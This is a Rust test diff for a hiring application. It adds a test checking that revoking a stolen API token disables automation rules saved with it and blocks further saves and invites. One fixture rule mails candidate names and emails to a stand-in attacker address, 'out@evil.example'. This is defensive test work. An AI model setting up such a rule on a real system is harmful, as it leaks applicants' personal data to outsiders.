@@ -80,6 +80,7 @@ fn save(
             expected_version: None,
             definition: definition.to_owned(),
             reason: "test".to_owned(),
+            token: None,
         },
         now(),
     )
@@ -185,6 +186,7 @@ fn saving_checks_the_whole_rule(mut f: Fresh) {
         expected_version: Some(version),
         definition: ok.replace("\"offer\", \"when\"", "\"offer 2\", \"when\""),
         reason: "rename".to_owned(),
+        token: None,
     };
     let v2 = o
         .services
@@ -979,4 +981,134 @@ fn delayed_rules_check_when_due_on_sqlite() {
 )]
 fn delayed_rules_check_when_due_on_postgres() {
     delayed_rules_check_when_due(common::postgres());
+}
+
+/// Revoking the API token a rule was saved with disables the rule, as a new version by the
+/// operator saying why, and its actions already queued do nothing; a rule saved otherwise runs
+/// on; the revoked token saves and invites nothing more, also when a request it made was let
+/// in before the revocation (red team, pass 18: a rule saved with a stolen token mailed
+/// candidates' contact details out after the revocation).
+fn a_revoked_tokens_rules_stop(mut f: Fresh) {
+    let o = org(&mut f);
+    let store = f.store();
+    let admin = o.admin.viewer.user.clone();
+    let stolen = o
+        .services
+        .create_token(store, ORG, &admin, "laptop", None, now())
+        .unwrap();
+    let rule = |name: &str, to: &str| {
+        format!(
+            r#"{{"name": "{name}", "when": "application.moved", "then": [{{"do": "email", "to": ["{to}"], "subject": "{{{{ candidate.name }}}}", "body": "{{{{ candidate.email }}}}"}}]}}"#
+        )
+    };
+    let save_with = |store: &mut Store, name: &str, to: &str, token: Option<&str>| {
+        o.services.save_rule(
+            store,
+            &o.admin,
+            SaveRule {
+                id: None,
+                expected_version: None,
+                definition: rule(name, to),
+                reason: "test".to_owned(),
+                token: token.map(str::to_owned),
+            },
+            now(),
+        )
+    };
+    let exfil = save_with(store, "exfil", "out@evil.example", Some(&stolen.stored.id)).unwrap();
+    let kept = save_with(store, "kept", "team@acme.example", None).unwrap();
+
+    // A move fires both rules; their action jobs are queued, not run yet.
+    let (application, stages) = active_application_and_stages(&o, store);
+    move_to_one_of(&o, store, &application, &stages);
+    o.services.dispatch_automation(store, now()).unwrap();
+    let at = now();
+    let lease = Instant::from_micros(at.as_micros() + 60_000_000).unwrap();
+    for job in store.claim_jobs("test", 50, at, lease).unwrap() {
+        assert_eq!(job.kind, app::automation::RULE_JOB, "{job:?}");
+        let step = o.services.run_rule_job(store, &job, now());
+        assert!(matches!(step, Step::Done(_)), "{step:?}");
+        assert!(store.complete_job(job.id, "test", now()).unwrap());
+    }
+
+    assert!(store.revoke_token(ORG, &stolen.stored.id, now()).unwrap());
+    let disabled = store.rule(ORG, &exfil.id).unwrap().unwrap();
+    assert!(!disabled.enabled && !disabled.deleted, "{disabled:?}");
+    assert_eq!(
+        (disabled.version, disabled.updated_by.as_str()),
+        (2, "operator")
+    );
+    let last = store.rule_versions(ORG, &exfil.id).unwrap();
+    let last = last.iter().find(|v| v.version == 2).unwrap();
+    assert!(
+        !last.enabled && last.reason.contains(&stolen.stored.id) && last.reason.contains("revoked"),
+        "{last:?}"
+    );
+    assert!(store.rule(ORG, &kept.id).unwrap().unwrap().enabled);
+
+    // The queued actions: the kept rule's mail goes, the disabled rule's does not.
+    let outside = Recorded::default();
+    run_jobs(&o, store, &outside);
+    let sent: Vec<Vec<String>> = outside
+        .emails
+        .lock()
+        .unwrap()
+        .iter()
+        .map(|e| e.to.clone())
+        .collect();
+    assert!(!sent.is_empty(), "the kept rule mailed");
+    assert!(
+        sent.iter().flatten().all(|to| to == "team@acme.example"),
+        "{sent:?}"
+    );
+    // Later moves fire the kept rule alone.
+    move_to_one_of(&o, store, &application, &stages);
+    let outside = Recorded::default();
+    run_jobs(&o, store, &outside);
+    let later = outside.emails.lock().unwrap().len();
+    assert!(later >= 1, "the kept rule fires again");
+    assert!(
+        outside
+            .emails
+            .lock()
+            .unwrap()
+            .iter()
+            .all(|e| e.to == ["team@acme.example"])
+    );
+
+    // The revoked token's requests that got past the auth cache make nothing.
+    let e = save_with(store, "again", "out@evil.example", Some(&stolen.stored.id)).unwrap_err();
+    assert!(matches!(e, AppError::Forbidden { .. }), "{e:?}");
+    let e = o
+        .services
+        .invite_user(
+            store,
+            &o.admin,
+            &o.interviewer.viewer.user,
+            now(),
+            3_600,
+            Some(&stolen.stored.id),
+        )
+        .unwrap_err();
+    assert!(
+        matches!(
+            e,
+            app::sessions::SignInError::App(AppError::Forbidden { .. })
+        ),
+        "{e:?}"
+    );
+}
+
+#[test]
+fn a_revoked_tokens_rules_stop_on_sqlite() {
+    a_revoked_tokens_rules_stop(common::sqlite());
+}
+
+#[test]
+#[cfg_attr(
+    not(hp_postgres),
+    ignore = "set HIREPLANE_TEST_POSTGRES to run against PostgreSQL"
+)]
+fn a_revoked_tokens_rules_stop_on_postgres() {
+    a_revoked_tokens_rules_stop(common::postgres());
 }
